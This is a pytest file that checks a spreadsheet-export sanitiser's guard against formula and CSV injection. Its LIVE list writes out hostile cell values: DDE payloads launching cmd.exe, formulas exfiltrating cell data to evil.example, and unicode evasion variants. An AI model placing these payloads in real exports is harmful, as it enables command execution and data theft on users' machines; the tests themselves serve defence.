"""A cell is shown and never run, and a number stays a number."""

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.exports.cells import GUARD, is_live, safe_cell

LIVE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
    "DDE|'x'!A1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    " =1+1",
    "    =1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "\tplain",
    "\x00=1",
    "\x0b=1",
    "\u00a0=1",
    "\u3000=1",
    "\u2003=1",
    "\u200b=1",
    "\u200d\u2060=1",
    "\ufeff=1",
    "\u202e=1",
    "\u2028=1",
    "\u3164=1",
    "\x85=1",
    "\ue000=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−1+1",
    "⁼1",
    "⁺1",
    "\u3000＝1+1",
    "-5",
    "+8613800000000",
]
PLAIN = [
    "",
    " ",
    "路灯坏了",
    "3号楼=三号楼",
    "a=1",
    "'=1+1",
    '"=1+1',
    "1-2",
    "10:30",
    "《关于路灯的答复》",
    "#1 building",
    "(2) −5",
    "一|二!三",
]


@pytest.mark.parametrize("text", LIVE)
def test_what_could_run_is_guarded(text):
    assert is_live(text)
    assert safe_cell(text).startswith(GUARD)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text):
    assert safe_cell(text) == text


NUMBERS = [
    -5,
    0,
    3.25,
    -0.5,
    True,
    Decimal("-12.30"),
    date(2026, 3, 2),
    datetime(2026, 3, 2, 9, tzinfo=UTC),
    time(9, 30),
    timedelta(hours=3),
    None,
]


@pytest.mark.parametrize("value", NUMBERS)
def test_numbers_and_dates_stay_numbers_and_dates(value):
    assert safe_cell(value) is value


def test_whatever_else_becomes_text_and_is_guarded():
    class Sly:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Sly()) == "'=1+1"
    assert safe_cell(["x"]) == "['x']"


@given(st.text())
def test_doing_it_twice_changes_nothing_and_no_text_is_live_afterwards(text):
    once = safe_cell(text)
    assert safe_cell(once) == once
    assert not is_live(once)
    once.encode()


@pytest.mark.parametrize("text", LIVE)
def test_in_a_workbook_it_is_text(text):
    book = openpyxl.Workbook()
    book.active["A1"] = safe_cell(text)
    file = io.BytesIO()
    book.save(file)
    cell = openpyxl.load_workbook(file).active["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_in_a_quoted_csv_a_row_comes_back_as_it_went():
    row = [str(safe_cell(text)) for text in LIVE if "\r" not in text]
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(row)
    file.seek(0)
    assert next(csv.reader(file)) == row
